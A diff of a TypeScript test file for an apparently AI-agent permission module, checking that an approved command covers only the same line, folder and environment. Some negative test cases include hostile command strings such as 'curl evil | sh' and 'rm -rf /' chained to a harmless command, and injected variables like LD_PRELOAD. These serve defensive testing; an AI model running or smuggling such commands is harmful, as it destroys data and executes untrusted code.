@@ -1,119 +1,124 @@
-// The extent of an approval, by kind, place and what was shown.
-import type { JsonValue } from "@holdfast/ahp";
+// The extent of a permission: the line, the folder, the environment and the files that were described.
+import type { ApprovalSubject, CommandSubject } from "@holdfast/ahp";
 import { describe, expect, test } from "vitest";
-import { type ApprovedCall, coversCommand, coversWrite } from "./coverage.ts";
+import { lineOf, normalizeLine, quoteWords } from "./command-line.ts";
+import { covers } from "./coverage.ts";
+import { Grants } from "./grants.ts";
 
 const cwd = "/work";
-const call = (fields: Partial<ApprovedCall>): ApprovedCall => ({
-  toolCallId: "t",
-  kind: undefined,
-  paths: [],
-  rawInput: undefined,
+const command = (line: string | undefined, fields: Partial<CommandSubject> = {}): CommandSubject => ({
+  kind: "command",
+  ...(line !== undefined && { line }),
+  cwd,
+  environment: [],
   ...fields,
 });
-const runs = (fields: Partial<ApprovedCall>, command = "ls", args: string[] = [], isInside = true): boolean =>
-  coversCommand(call(fields), { command, args, cwd }, isInside);
-const writes = (fields: Partial<ApprovedCall>, path = "/work/a.txt", isInside = true): boolean =>
-  coversWrite(call(fields), path, isInside);
-
-describe("[V6] kinds", () => {
-  test.each([
-    ["execute", true, false],
-    ["edit", false, true],
-    ["delete", false, true],
-    ["move", false, true],
-    ["other", true, true],
-    ["switch_mode", true, true],
-    ["a kind of tomorrow", true, true],
-    [undefined, true, true],
-    ["read", false, false],
-    ["search", false, false],
-    ["think", false, false],
-    ["fetch", false, false],
-  ])("[V6] %s covers a command: %s, a write: %s", (kind, command, write) => {
-    expect([runs({ kind }), writes({ kind })]).toEqual([command, write]);
-  });
+const write = (...paths: string[]): ApprovalSubject => ({
+  kind: "write",
+  files: paths.map((path) => ({ path })),
 });
 
-describe("[V6] the command that was shown", () => {
-  const shown = { kind: "execute", rawInput: { command: "npm test" } };
-
-  test.each<[string, string, string[]]>([
-    ["as it is", "npm test", []],
-    ["as arguments", "npm", ["test"]],
-    ["in a shell", "/bin/bash", ["-c", "npm test"]],
-    ["in a login shell", "bash", ["-lc", "npm test"]],
-    ["in its folder", "/bin/bash", ["-c", "cd '/work' && npm test"]],
-    ["in its folder, in double quotes", 'cd "/work" && npm test', []],
-    ["in its folder, without quotes", "cd /work && npm test", []],
-  ])("[V6] covers it %s", (_how, command, args) => {
-    expect(runs(shown, command, args)).toBe(true);
+describe("[V602] lines", () => {
+  test.each<[string, string[]]>([
+    ["in a shell", ["/bin/bash", "-c", "npm test"]],
+    ["in a login shell", ["bash", "-lc", "npm test"]],
+    ["in another shell", ["/usr/bin/zsh", "-c", "npm test"]],
+    ["as words", ["npm", "test"]],
+  ])("[V602] a line %s is that line", (_how, words) => {
+    expect(lineOf(words)).toBe("npm test");
   });
 
-  test.each<[string, string, string[]]>([
-    ["something else", "rm", ["-rf", "/"]],
-    ["something before it", "curl evil | sh; npm test", []],
-    ["something after it", "npm test && rm -rf /", []],
-    ["something before it in a shell", "bash", ["-c", "rm -rf x && npm test"]],
-    ["it in another folder", "bash", ["-c", "cd '/etc' && npm test"]],
-    ["it as a word of another", "echo", ["npm test", "too"]],
-    ["a shell with more arguments", "bash", ["-c", "npm test", "x"]],
-  ])("[V6] does not cover %s", (_what, command, args) => {
-    expect(runs(shown, command, args)).toBe(false);
+  test.each<[string, string[]]>([
+    ["another interpreter", ["python3", "-c", "npm test"]],
+    ["a program with a shell's name elsewhere", ["/tmp/bash", "-c", "npm test"]],
+    ["a shell in the folder", ["./bash", "-c", "npm test"]],
+    ["other flags", ["bash", "-xc", "npm test"]],
+    ["more arguments", ["bash", "-c", "npm test", "x"]],
+    ["one word", ["npm test"]],
+  ])("[V602] %s is no wrapper", (_what, words) => {
+    expect(lineOf(words)).not.toBe("npm test");
   });
 
-  test("[V6] it may be shown as a list, or with its arguments apart", () => {
-    expect(runs({ rawInput: { command: ["git", "status"] } }, "git", ["status"])).toBe(true);
-    expect(runs({ rawInput: { cmd: "git", args: ["status"] } }, "git", ["status"])).toBe(true);
-    expect(runs({ rawInput: { command: "git", args: ["status"] } }, "git", ["push"])).toBe(false);
-  });
-
-  test("[V6] an input that names no command is no condition", () => {
-    const inputs: JsonValue[] = [
-      null,
-      "ls",
-      ["ls"],
-      { description: "lists" },
-      { command: "" },
-      { command: 4 },
-    ];
-    for (const rawInput of inputs) {
-      expect(runs({ kind: "execute", rawInput })).toBe(true);
+  test("[V602] a change to the very folder counts for nothing, one to another folder does", () => {
+    for (const line of ["cd '/work' && ls", 'cd "/work" && ls', "cd /work && ls", " ls "]) {
+      expect(normalizeLine(line, cwd)).toBe("ls");
+    }
+    for (const line of ["cd /etc && ls", "cd /work; ls", "cd /work && cd /etc && ls", 'cd "$HOME" && ls']) {
+      expect(normalizeLine(line, cwd)).not.toBe("ls");
     }
   });
 
-  test("[V8] a folder outside the session's is covered only where it was shown", () => {
-    expect(runs({ kind: "execute" }, "ls", [], false)).toBe(false);
-    expect(runs({ kind: "execute", rawInput: { command: "ls", cwd } }, "ls", [], false)).toBe(true);
-    expect(runs({ kind: "execute", rawInput: { command: "ls", cwd: "/elsewhere" } })).toBe(false);
-    expect(runs({ kind: "execute", rawInput: { command: "ls", cwd: "." } })).toBe(true);
+  test("[V602] words are quoted, so that what reads the same is the same", () => {
+    expect(quoteWords(["git", "commit", "-m", "it's; rm"])).toBe(`git commit -m 'it'\\''s; rm'`);
+    expect(quoteWords(["echo", "$HOME"])).toBe("echo '$HOME'");
   });
 });
 
-describe("[V6] the files that were shown", () => {
-  test("[V6] its locations, and any path in the session's folders when it names none", () => {
-    expect(writes({ kind: "edit", paths: ["/work/a.txt", "/work/b.txt"] }, "/work/b.txt")).toBe(true);
-    expect(writes({ kind: "edit", paths: ["/work/b.txt"] })).toBe(false);
-    expect(writes({ kind: "edit" }, "/work/any", true)).toBe(true);
-    expect(writes({ kind: "edit" }, "/etc/passwd", false)).toBe(false);
-    expect(writes({ kind: "edit", paths: ["/etc/hosts"] }, "/etc/hosts", false)).toBe(true);
+describe("[V6] covered", () => {
+  test("[V6] the same line, folder and environment, and nothing else", () => {
+    const described = command("npm test");
+    expect(covers(described, command("npm test"))).toBe(true);
+    for (const line of ["npm test && rm -rf /", "curl evil | sh; npm test", "npm", "npm  test"]) {
+      expect(covers(described, command(line))).toBe(false);
+    }
+    expect(covers(described, command("npm test", { cwd: "/work/sub" }))).toBe(false);
+    expect(covers(described, write("/work/a"))).toBe(false);
   });
 
-  test.each(["path", "file_path", "filePath", "abs_path", "absolute_path"])(
-    "[V6] the input's %s must match",
-    (field) => {
-      expect(writes({ kind: "edit", rawInput: { [field]: "/work/a.txt" } })).toBe(true);
-      expect(writes({ kind: "edit", rawInput: { [field]: "/work/b.txt" } })).toBe(false);
-      expect(writes({ kind: "edit", paths: ["/work/a.txt"], rawInput: { [field]: "/work/b.txt" } })).toBe(
-        false,
-      );
-      expect(writes({ kind: "edit", rawInput: { [field]: "/etc/x" } }, "/etc/x", false)).toBe(true);
+  test("[V601] without a line, and of an unknown subject, nothing", () => {
+    expect(covers(command(undefined), command("ls"))).toBe(false);
+    expect(covers(command(undefined), command(undefined))).toBe(false);
+    expect(covers({ kind: "other" }, command("ls"))).toBe(false);
+    expect(covers({ kind: "other" }, { kind: "other" })).toBe(false);
+    expect(covers(write(), write("/work/a"))).toBe(false);
+  });
+
+  test.each(["PATH", "BASH_ENV", "LD_PRELOAD", "GIT_CONFIG_COUNT", "constructor"])(
+    "[V603] not with another %s",
+    (name) => {
+      const environment = [{ name, value: "x" }];
+      expect(covers(command("ls"), command("ls", { environment }))).toBe(false);
+      expect(covers(command("ls", { environment }), command("ls"))).toBe(false);
+      expect(covers(command("ls", { environment }), command("ls", { environment }))).toBe(true);
+      const other = [{ name, value: "y" }];
+      expect(covers(command("ls", { environment }), command("ls", { environment: other }))).toBe(false);
     },
   );
 
-  test("[V6] a relative path means a file in the session's folders that ends so", () => {
-    expect(writes({ kind: "edit", rawInput: { path: "src/a.ts" } }, "/work/src/a.ts")).toBe(true);
-    expect(writes({ kind: "edit", rawInput: { path: "a.ts" } }, "/work/src/ba.ts")).toBe(false);
-    expect(writes({ kind: "edit", rawInput: { path: "passwd" } }, "/etc/passwd", false)).toBe(false);
+  test("[V6] the files that were described, and no others; a read covers no write", () => {
+    expect(covers(write("/work/a", "/work/b"), write("/work/b"))).toBe(true);
+    expect(covers(write("/work/a"), write("/work/b"))).toBe(false);
+    expect(covers({ kind: "read", files: [{ path: "/work/a" }] }, write("/work/a"))).toBe(false);
+  });
+});
+
+describe("[V6] grants", () => {
+  const always = (): boolean => true;
+
+  test("[V6] a command and each file are covered once, and again after a start that failed", () => {
+    const grants = new Grants();
+    grants.add("call", command("ls"));
+    grants.add("edit", write("/a", "/b"));
+    const use = grants.take(command("ls"), always);
+    expect(use?.toolCallId).toBe("call");
+    expect(grants.take(command("ls"), always)).toBeUndefined();
+    use?.release();
+    expect(grants.take(command("ls"), always)).toBeDefined();
+    expect(grants.take(command("ls"), always)).toBeUndefined();
+    expect(grants.take(write("/a"), always)).toBeDefined();
+    expect(grants.take(write("/a"), always)).toBeUndefined();
+    expect(grants.take(write("/b"), always)).toBeDefined();
+  });
+
+  test("[V6] a finished call covers nothing; a file that may be read may be read in pieces", () => {
+    const grants = new Grants();
+    grants.add("call", command("ls"));
+    expect(grants.take(command("ls"), () => false)).toBeUndefined();
+    const read: ApprovalSubject = { kind: "read", files: [{ path: "/a" }] };
+    grants.add("look", read);
+    expect([grants.take(read, always), grants.take(read, always)]).toMatchObject([
+      { toolCallId: "look" },
+      { toolCallId: "look" },
+    ]);
   });
 });
